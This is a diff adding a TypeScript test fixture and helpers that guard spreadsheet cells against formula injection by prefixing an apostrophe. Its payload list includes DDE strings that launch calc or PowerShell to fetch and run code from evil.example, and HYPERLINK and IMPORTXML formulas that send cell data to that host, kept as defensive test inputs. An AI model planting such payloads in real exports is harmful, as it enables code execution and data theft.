@@ -1,0 +1,59 @@
+/** What a text begins with that a spreadsheet takes for a formula, by the interface's word and not the service's code. */
+const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
+
+const payloads = [
+  `=cmd|'/c calc'!A1`,
+  `=cmd|' /C powershell IEX(wget evil.example/x)'!A0`,
+  `@SUM(1+1)*cmd|'/c calc'!A1`,
+  `+cmd|'/c calc'!A1`,
+  `-2+3+cmd|'/c calc'!A1`,
+  '=HYPERLINK("http://evil.example/?x="&A1&A2,"点此")',
+  `=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")`,
+  `＝cmd|'/c calc'!A1`,
+];
+
+/** Texts that a spreadsheet would run, with what a file could stumble over besides. */
+export const formulas: readonly string[] = [
+  ...STARTS,
+  ...STARTS.map((start) => `${start}1+1`),
+  ...payloads,
+  ...['-5', '+1', '-2+3', '+86 138', '--1', '=-1', '-0', '=""', '="x"', `='x'`, '\t=1', '\r\n=1', '\n\n@x'],
+  ...['=1,2', '=1;2', '=1|2', '=1\t2', '=1\n2', '=1\r\n2', '=灯', '=😀', '=\\.', `=${'x'.repeat(300)}`],
+];
+
+/** Texts that no spreadsheet runs, however near they come to it: no cell of them may be changed. */
+export const harmless: readonly string[] = [
+  ...[
+    '',
+    ' ',
+    '灯',
+    '5',
+    '1-1',
+    'a=1',
+    '1+1',
+    `'`,
+    `''`,
+    `'=1+1`,
+    `''=1+1`,
+    '"=1+1"',
+    '(=1+1)',
+    '\\.',
+    '\\N',
+  ],
+  ...['#=1', '!=1', '&=1', '*=1', '/=1', '%=1', '\u2212' + '5', '\u2010x', '—', '＂', 'x\n=1+1', 'NULL'],
+];
+
+/** Whether a spreadsheet would take a cell for a formula. */
+export function isFormula(cell: string): boolean {
+  return STARTS.some((start) => cell.startsWith(start));
+}
+
+/** What the cell of a text must be where formulas are guarded: one apostrophe more, or the text itself. */
+export function guardedCell(text: string): string {
+  return isFormula(text) ? `'${text}` : text;
+}
+
+/** The text of a guarded cell: the apostrophe is taken off where a formula stands behind it. */
+export function textOf(cell: string): string {
+  return cell.startsWith(`'`) && isFormula(cell.slice(1)) ? cell.slice(1) : cell;
+}
